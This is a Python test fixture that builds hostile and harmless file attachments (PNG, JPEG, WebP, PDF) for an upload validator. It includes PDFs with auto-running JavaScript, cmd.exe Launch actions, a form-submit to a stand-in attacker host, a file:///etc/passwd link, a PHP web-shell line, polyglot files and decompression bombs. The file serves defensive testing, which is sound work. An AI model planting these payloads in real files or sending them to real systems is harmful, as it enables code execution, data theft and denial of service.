"""Hostile attachments with the finding that each must have; everything is built here, nothing is taken from the wild."""

import io
import struct
import zipfile
import zlib

import pikepdf
from lampiran import FONT, PAGE, SOUND, Body, assembled, chunk, encoded, flate, in_object_stream, pdf, picture, stream
from PIL import Image

JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def archive() -> bytes:
    """Return a ZIP archive."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as file:
        file.writestr("index.html", "<script>alert(1)</script>")
    return into.getvalue()


def locked(password: str) -> bytes:
    """Return a PDF that is encrypted, with a script hidden in it."""
    into = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf("", JS, catalog="/OpenAction 6 0 R"))) as file:
        file.save(into, encryption=pikepdf.Encryption(owner="pemilik", user=password))
    return into.getvalue()


def annotated(annotation: str, *more: Body) -> bytes:
    """Return a PDF with one annotation, object 6."""
    return pdf("Teks", annotation, *more, page="/Annots [6 0 R]")


def linked(address: str) -> bytes:
    """Return a PDF with a link to *address*."""
    return annotated(f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ({address}) >> >>")


def field(action: str) -> bytes:
    """Return a PDF with a form whose button has *action*."""
    button = f"<< /Type /Annot /Subtype /Widget /FT /Btn /T (kirim) /Rect [0 0 9 9] {action} >>"
    return pdf("Formulir", button, catalog="/AcroForm << /Fields [6 0 R] >>", page="/Annots [6 0 R]")


def pages(kids: str, count: int, *more: Body) -> bytes:
    """Return a PDF with the tree of pages *kids*."""
    tree = f"<< /Type /Pages /Kids [{kids}] /Count {count} >>"
    return assembled(["<< /Type /Catalog /Pages 2 0 R >>", tree, PAGE.format(""), stream(b""), FONT, *more])


def doubled(times: int) -> bytes:
    """Return a PDF whose page tree has 2 to the power of *times* pages in as many nodes."""
    nodes = [
        f"<< /Type /Pages /Parent 2 0 R /Kids [{number + 1} 0 R {number + 1} 0 R] /Count 9 >>" for number in range(6, 6 + times)
    ]
    return pages("6 0 R", 9, *nodes, PAGE.format(""))


def bomb(times: int = 1) -> bytes:
    """Return a stream that becomes 300 MiB, compressed *times* times."""
    engine = zlib.compressobj()
    head = engine.flush(zlib.Z_FULL_FLUSH)
    packed = head + (engine.compress(bytes(1 << 20)) + engine.flush(zlib.Z_FULL_FLUSH)) * 300
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return stream(packed, f"/Filter [{'/FlateDecode ' * times}]")


def huge(kind: str) -> bytes:
    """Return a small file whose head says that the picture is huge."""
    if kind == "png":
        head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
        return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(99))) + chunk(b"IEND", b"")
    raw = bytearray(SOUND["jpg"])
    at = raw.index(b"\xff\xc0")
    raw[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(raw)


def huge_webp(kind: bytes) -> bytes:
    """Return the head of a WebP of *kind* whose picture has 16 383 pixels on each side."""
    bodies = {
        b"VP8X": bytes(4) + (16_382).to_bytes(3, "little") * 2,
        b"VP8L": b"\x2f" + (16_382 | 16_382 << 14).to_bytes(4, "little"),
        b"VP8 ": b"\x10\x02\x00\x9d\x01\x2a" + (16_383).to_bytes(2, "little") * 2,
    }
    data = b"WEBP" + kind + len(bodies[kind]).to_bytes(4, "little") + bodies[kind]
    return b"RIFF" + len(data).to_bytes(4, "little") + data


def moving(kind: str) -> bytes:
    """Return two pictures that take turns."""
    return encoded(picture(), kind, save_all=True, append_images=[picture().rotate(180)])


EMBEDDED = (stream(b"MZ", "/Type /EmbeddedFile"), "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>")
XFA = stream(b"<xdp/>")
HTML = b"<!DOCTYPE html><script>alert(1)</script>"

# By name: the bytes, and the codes of the errors.
HOSTILE: dict[str, tuple[bytes, set[str]]] = {
    # what is no picture and no document, whatever it is called
    **{
        f"{name}.png": (content, {"lampiran-bukan-jenisnya"})
        for name, content in {
            "exe": b"MZ\x90\x00" + bytes(60),
            "elf": b"\x7fELF\x02\x01\x01" + bytes(60),
            "macho": b"\xcf\xfa\xed\xfe" + bytes(60),
            "html": HTML,
            "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            "skrip": b"#!/bin/sh\n",
            "php": b"<?php system($_GET[0]);",
            "zip": archive(),
            "pdf": SOUND["pdf"],
            "jpg": SOUND["jpg"],
            "webp": SOUND["webp"],
            "gif": encoded(picture(), "gif"),
            "tiff": encoded(picture(), "tiff"),
            "bmp": encoded(picture(), "bmp"),
            "kosong": b"",
            "catatan": b"halo",
            "heic": bytes(4) + b"ftypheic",
            "awalan": b"\n" + SOUND["png"],
            "bom": b"\xef\xbb\xbf" + SOUND["png"],
        }.items()
    },
    **{
        f"{name}.pdf": (content, {"lampiran-bukan-jenisnya"})
        for name, content in {
            "html": HTML + SOUND["pdf"],
            "exe": b"MZ\x90\x00" + SOUND["pdf"],
            "docx": archive(),
            "png": SOUND["png"],
            "jauh": bytes(900) + SOUND["pdf"],
            "versi": SOUND["pdf"].replace(b"%PDF-1.7", b"%PDF-9.9"),
        }.items()
    },
    "png.jpg": (SOUND["png"], {"lampiran-bukan-jenisnya"}),
    "jpg.webp": (SOUND["jpg"], {"lampiran-bukan-jenisnya"}),
    # pictures
    **{f"zip-di-belakang.{kind}": (SOUND[kind] + archive(), {"lampiran-berlapis"}) for kind in ("png", "jpg", "webp", "pdf")},
    **{f"html-di-belakang.{kind}": (SOUND[kind] + HTML, {"lampiran-berlapis"}) for kind in ("png", "jpg", "webp", "pdf")},
    "php-di-belakang.jpg": (SOUND["jpg"] + b"<?php echo 1;", {"lampiran-berlapis"}),
    "exe-di-belakang.png": (SOUND["png"] + b"MZ" + bytes(99), {"lampiran-berlapis"}),
    "pdf-di-belakang.jpg": (SOUND["jpg"] + SOUND["pdf"], {"lampiran-berlapis"}),
    "besar.png": (huge("png"), {"lampiran-terlalu-rumit"}),
    **{
        f"besar-{name}.webp": (huge_webp(kind), {"lampiran-terlalu-rumit"})
        for name, kind in {"x": b"VP8X", "l": b"VP8L", "biasa": b"VP8 "}.items()
    },
    "besar.jpg": (huge("jpg"), {"lampiran-terlalu-rumit"}),
    "bergerak.png": (moving("png"), {"lampiran-bergerak"}),
    "bergerak.webp": (moving("webp"), {"lampiran-bergerak"}),
    **{
        f"terpotong.{kind}": (SOUND[kind][: len(SOUND[kind]) * 2 // 3], {"lampiran-rusak"})
        for kind in ("png", "jpg", "webp", "pdf")
    },
    "sidik-salah.png": (SOUND["png"][:-20] + b"\0" * 8 + SOUND["png"][-12:], {"lampiran-rusak"}),
    "tanpa-akhir.jpg": (encoded(Image.effect_noise((99, 99), 90), "jpg")[:-900], {"lampiran-rusak"}),
    "hanya-kepala.png": (SOUND["png"][:8], {"lampiran-rusak"}),
    # PDF that acts
    "js-saat-dibuka.pdf": (pdf("a", JS, catalog="/OpenAction 6 0 R"), {"lampiran-berperintah"}),
    "js-di-names.pdf": (pdf("a", JS, catalog="/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"), {"lampiran-berperintah"}),
    "js-di-aa.pdf": (pdf("a", page=f"/AA << /O {JS} >>"), {"lampiran-berperintah"}),
    "js-di-anotasi.pdf": (annotated(f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {JS} >>"), {"lampiran-berperintah"}),
    "js-di-isian.pdf": (field(f"/AA << /K {JS} >>"), {"lampiran-berperintah"}),
    "js-bersambung.pdf": (
        annotated(f"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] /Next [{JS}] >> >>"),
        {"lampiran-berperintah"},
    ),
    "js-samaran.pdf": (pdf("a", "<< /S /J#61va#53cript /J#53 (x) >>", catalog="/OpenAction 6 0 R"), {"lampiran-berperintah"}),
    "js-di-aliran-objek.pdf": (in_object_stream(JS, catalog="/OpenAction 6 0 R"), {"lampiran-berperintah"}),
    "js-di-bookmark.pdf": (
        pdf("a", "<< /First 7 0 R /Last 7 0 R /Count 1 >>", f"<< /Title (a) /Parent 6 0 R /A {JS} >>", catalog="/Outlines 6 0 R"),
        {"lampiran-berperintah"},
    ),
    "js-tanpa-rujukan.pdf": (pdf("a", JS), {"lampiran-berperintah"}),
    "js-lama.pdf": (
        pdf("a", JS, catalog="/OpenAction 6 0 R").removesuffix(b"\n") + b"\n" + pdf("a"),
        {"lampiran-berperintah", "lampiran-rusak"},
    ),
    "launch.pdf": (annotated("<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"), {"lampiran-berperintah"}),
    "launch-win.pdf": (
        annotated("<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /Win << /F (cmd.exe) >> >> >>"),
        {"lampiran-berperintah"},
    ),
    "kirim.pdf": (field("/A << /S /SubmitForm /F << /FS /URL /F (https://jahat.example/) >> >>"), {"lampiran-berperintah"}),
    "impor.pdf": (field("/A << /S /ImportData /F (a.fdf) >>"), {"lampiran-berperintah"}),
    "gotor.pdf": (
        annotated("<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\host\\\\a.pdf) /D [0 /Fit] >> >>"),
        {"lampiran-berperintah"},
    ),
    "gotoe.pdf": (
        annotated("<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >> >>"),
        {"lampiran-berperintah"},
    ),
    "xfa.pdf": (pdf("a", XFA, catalog="/AcroForm << /Fields [] /XFA 6 0 R >>"), {"lampiran-berperintah"}),
    "media.pdf": (annotated("<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>"), {"lampiran-berperintah"}),
    "tiga-d.pdf": (annotated("<< /Subtype /3D /Rect [0 0 9 9] >>"), {"lampiran-berperintah"}),
    "suara.pdf": (annotated("<< /Subtype /Sound /Rect [0 0 9 9] >>"), {"lampiran-berperintah"}),
    "film.pdf": (annotated("<< /Subtype /Movie /Rect [0 0 9 9] >>"), {"lampiran-berperintah"}),
    "layar.pdf": (annotated("<< /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 >> >>"), {"lampiran-berperintah"}),
    "aliran-luar.pdf": (pdf("a", stream(b"", "/F (https://jahat.example/a)")), {"lampiran-berperintah"}),
    # PDF that carries
    "tertanam.pdf": (
        pdf("a", *EMBEDDED, catalog="/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >>"),
        {"lampiran-berisi-berkas"},
    ),
    "tertanam-af.pdf": (pdf("a", *EMBEDDED, catalog="/AF [7 0 R]"), {"lampiran-berisi-berkas"}),
    "tertanam-anotasi.pdf": (
        annotated("<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 8 0 R >>", *EMBEDDED),
        {"lampiran-berisi-berkas"},
    ),
    "tertanam-sembunyi.pdf": (
        in_object_stream("<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>", catalog="/AF [6 0 R]"),
        {"lampiran-berisi-berkas"},
    ),
    # PDF that leads astray
    **{
        f"tautan-{name}.pdf": (linked(address), {"lampiran-tautan"})
        for name, address in {
            "js": "javascript:alert\\(1\\)",
            "file": "file:///etc/passwd",
            "data": "data:text/html,x",
            "kurung": "https://[x",
            "smb": "\\\\\\\\host\\\\x",
            "vbs": " VBScript:x",
        }.items()
    },
    "dasar-tautan.pdf": (pdf("a", catalog="/URI << /Base (javascript:alert\\(1\\)//) >>"), {"lampiran-tautan"}),
    "untaian.pdf": (
        annotated("<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Thread /F (a.pdf) /D 0 >> >>"),
        {"lampiran-berperintah"},
    ),
    # PDF that cannot be looked into
    "terkunci.pdf": (locked("rahasia"), {"lampiran-terkunci"}),
    "terkunci-pemilik.pdf": (locked(""), {"lampiran-terkunci", "lampiran-berperintah"}),
    "hanya-kepala.pdf": (b"%PDF-1.7\n", {"lampiran-rusak"}),
    "tanpa-xref.pdf": (SOUND["pdf"].replace(b"startxref", b"startxxxx"), {"lampiran-rusak"}),
    "xref-salah.pdf": (SOUND["pdf"].replace(b"startxref\n", b"startxref\n9"), {"lampiran-rusak"}),
    "acak.pdf": (b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF", {"lampiran-rusak"}),
    "ekor.pdf": (SOUND["pdf"] + b"x" * 40, {"lampiran-berlapis"}),
    "ekor-jauh.pdf": (SOUND["pdf"] + bytes(5000), {"lampiran-berlapis", "lampiran-rusak"}),
    "zip-tersamar.pdf": (
        SOUND["pdf"][:-6] + archive()[:-2] + (7).to_bytes(2, "little") + b"\n%%EOF\n",
        {"lampiran-berlapis"},
    ),
    # PDF that swells
    "banyak-halaman.pdf": (pages("3 0 R " * 5000, 5000), {"lampiran-terlalu-rumit"}),
    "halaman-berlipat.pdf": (doubled(40), {"lampiran-terlalu-rumit"}),
    "halaman-berputar.pdf": (pages("2 0 R", 1), {"lampiran-terlalu-rumit"}),
    "bom.pdf": (pdf("a", bomb()), {"lampiran-terlalu-rumit"}),
    "bom-berlapis.pdf": (pdf("a", bomb(2)), {"lampiran-terlalu-rumit"}),
    "gambar-raksasa.pdf": (pdf("a", stream(b"", "/Subtype /Image /Width 90000 /Height 90000")), {"lampiran-terlalu-rumit"}),
    "banyak-bagian.pdf": (pdf("a", *["null"] * 100_001), {"lampiran-terlalu-rumit"}),
    "banyak-nilai.pdf": (pdf("a", "[" + "[]" * 500_001 + "]"), {"lampiran-terlalu-rumit"}),
    "sarang.pdf": (pdf("a", "[" * 20_000 + "]" * 20_000), {"lampiran-rusak"}),
}


def phone_picture() -> bytes:
    """Return what a telephone makes: turned, with its place, a second picture behind it, and who made it."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x013B] = "Budi"
    exif.get_ifd(0x8825).update({1: "S", 2: (3.0, 47.0, 0.0), 3: "E", 4: (102.0, 15.0, 0.0)})
    return encoded(picture((30, 20)), "jpg", exif=exif, comment=b"dari telepon") + SOUND["jpg"]


# Attachments that must pass, with the codes of their warnings.
TAME: dict[str, tuple[bytes, set[str]]] = {
    **{f"biasa.{kind}": (content, set()) for kind, content in SOUND.items()},
    "biasa.jpeg": (SOUND["jpg"], set()),
    "telepon.jpg": (phone_picture(), {"lampiran-berketerangan"}),
    "cmyk.jpg": (encoded(picture(mode="CMYK"), "jpg"), set()),
    "abu.jpg": (encoded(picture(mode="L"), "jpg"), set()),
    **{f"mode-{mode.lower()}.png": (encoded(picture(mode=mode)), set()) for mode in ("1", "L", "LA", "P", "RGBA")},
    "enam-belas-bit.png": (encoded(Image.new("I;16", (4, 4), 40_000)), set()),
    "tembus.png": (encoded(picture(mode="P"), transparency=0), set()),
    "teks.png": (SOUND["png"][:33] + chunk(b"tEXt", b"Author\0Ani") + SOUND["png"][33:], {"lampiran-berketerangan"}),
    "lebar.png": (encoded(picture((2500, 10))), set()),
    "lossless.webp": (encoded(picture(), "webp", lossless=True), set()),
    "formulir.pdf": (
        pdf(
            "Nama:",
            "<< /Type /Annot /Subtype /Widget /FT /Tx /T (nama) /Rect [0 0 99 9] /MK << >> >>",
            catalog="/AcroForm << /Fields [6 0 R] /DA (/F1 9 Tf) >>",
            page="/Annots [6 0 R]",
        ),
        set(),
    ),
    "tautan.pdf": (linked("https://contoh.example/a?b=c#d"), set()),
    "surel.pdf": (linked("mailto:ptsp@contoh.example"), set()),
    "tujuan.pdf": (pdf("a", catalog="/OpenAction [3 0 R /Fit]"), set()),
    "pindaian.pdf": (
        pdf("", flate(bytes(12), "/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceRGB /BitsPerComponent 8")),
        set(),
    ),
    "pindaian-jpg.pdf": (pdf("", stream(SOUND["jpg"], "/Subtype /Image /Width 12 /Height 8 /Filter /DCTDecode")), set()),
    "aliran-objek.pdf": (in_object_stream("<< /Title (Judul) >>"), set()),
    "ditambah.pdf": (SOUND["pdf"] + b"\r\n\0\0", set()),
}
